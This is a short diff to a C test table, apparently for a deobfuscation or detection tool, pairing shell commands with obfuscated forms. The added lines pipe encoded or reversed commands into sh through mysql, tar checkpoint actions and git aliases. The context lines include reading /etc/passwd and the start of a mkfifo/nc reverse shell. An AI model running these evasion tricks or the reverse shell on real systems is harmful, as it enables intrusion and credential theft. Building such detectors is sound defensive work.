@@ -15,6 +15,12 @@ static const struct hidden good[] = {
 		"-aes-128-cbc -K 00112233445566778899aabbccddeeff -iv 0f -a "
 		"-A|sh" },
 	{ "join", "cat /etc/passwd", "a=c;b=at;c=/etc/pas;d=swd;$a$b $c$d" },
+	/* What other programs hand to a shell. */
+	{ "base64", "id;w", "mysql -e '\\! echo aWQ7dw==|base64 -d|sh'" },
+	{ "reverse", "id;ls",
+		"tar cf x y --checkpoint-action=exec=\"echo 'sl;di'|rev|sh\"" },
+	{ "reverse", "id;ls",
+		"x=rev;git -c alias.y=\"!echo 'sl;di'|$x|sh\" y" },
 	/* What matches, a line each. */
 	{ "grep+tr+base64",
 		"rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc "
